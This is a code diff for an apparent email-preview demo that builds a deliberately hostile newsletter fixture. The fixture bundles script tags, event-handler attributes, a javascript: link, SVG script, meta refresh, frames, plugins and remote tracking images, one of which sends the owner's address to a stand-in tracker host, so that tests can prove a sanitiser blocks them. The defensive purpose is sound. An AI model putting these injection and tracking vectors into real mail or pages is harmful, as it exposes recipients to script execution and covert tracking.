@@ -476,17 +476,7 @@ function demoPreview(item: ItemEntry, owner: string): ItemPreview {
   if (item.id === HOSTILE_ITEM_ID) {
     return {
       ...base,
-      html: `<!doctype html><html><head><style>.hero{padding:1em;background:url(https://tracker.example/bg.png)}</style>
-<script>parent.postMessage('qcb-script-ran','*');</script></head>
-<body><div class="hero"><h1>Spring newsletter</h1></div>
-<p>Hello! Our <b>spring</b> collection is here.</p>
-<img src="https://tracker.example/pixel.gif?u=${encodeURIComponent(owner)}" alt="Spring collection banner" width="320" height="80">
-<img src="x" alt="" onerror="parent.postMessage('qcb-onerror-ran','*')">
-<p style="background-image:url('http://tracker.example/style.png')">Styled paragraph.</p>
-<p><a href="https://contoso.example/unsubscribe" onclick="parent.postMessage('qcb-onclick-ran','*')">Unsubscribe</a></p>
-<iframe src="https://tracker.example/frame"></iframe>
-<form action="https://tracker.example/form"><input name="q"></form>
-</body></html>`,
+      html: hostileHtml(owner),
       text: null,
     };
   }
@@ -498,6 +488,37 @@ function demoPreview(item: ItemEntry, owner: string): ItemPreview {
     html: `<p>Hello,</p><p>${escapeHtml(item.subject)}: details below.</p><ul><li>Item ${n}</li><li>Size ${item.size} bytes</li></ul><p>Regards,<br>${escapeHtml(item.from)}</p>`,
     text: `Hello,\n\n${item.subject}: details below.`,
   };
+}
+
+/**
+ * A newsletter that tries everything a mail can try: scripts, event handlers, remote images,
+ * CSS and imports, frames, forms, SVG, plugins and script links. Every attempt to run code
+ * posts a message to the parent window, so tests can prove that none did.
+ */
+export function hostileHtml(owner: string): string {
+  const ran = (what: string) => `parent.postMessage('qcb-${what}-ran','*')`;
+  return `<!doctype html><html><head>
+<style>@import url(https://tracker.example/import.css);
+.hero{padding:1em;background:url("https://tracker.example/bg.png")} .dot{background:url(data:image/gif;base64,R0lGODlhAQABAAAAACw=)}</style>
+<script>${ran('script')}</script>
+<link rel="stylesheet" href="https://tracker.example/style.css"><meta http-equiv="refresh" content="0;url=https://tracker.example/"><base href="https://tracker.example/">
+</head><body onload="${ran('onload')}">
+<div class="hero"><h1>Spring newsletter</h1></div>
+<p>Hello! Our <b>spring</b> collection is here.</p>
+<img src="https://tracker.example/pixel.gif?u=${encodeURIComponent(owner)}" alt="Spring collection banner" width="320" height="80">
+<img src="//tracker.example/protocol-relative.gif" alt="Protocol-relative image">
+<img srcset="https://tracker.example/a.png 1x, https://tracker.example/b.png 2x" alt="Responsive image">
+<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="Inline image">
+<img src="x" alt="" onerror="${ran('onerror')}">
+<p style="background-image:url('http://tracker.example/style.png')" onmouseover="${ran('onmouseover')}">Styled paragraph.</p>
+<table background="https://tracker.example/table.png"><tr><td>Table cell</td></tr></table>
+<p><a href="https://contoso.example/unsubscribe" onclick="${ran('onclick')}">Unsubscribe</a> · <a href="javascript:${ran('javascript-url')}">Preferences</a></p>
+<iframe src="https://tracker.example/frame"></iframe>
+<form action="https://tracker.example/form"><input name="q" autofocus onfocus="${ran('onfocus')}"><button>Send</button></form>
+<svg><image href="https://tracker.example/svg.png"></image><script>${ran('svg-script')}</script></svg>
+<object data="https://tracker.example/plugin.swf"></object><embed src="https://tracker.example/embed.swf">
+<video src="https://tracker.example/video.mp4" poster="https://tracker.example/poster.png"></video>
+</body></html>`;
 }
 
 function escapeHtml(s: string): string {
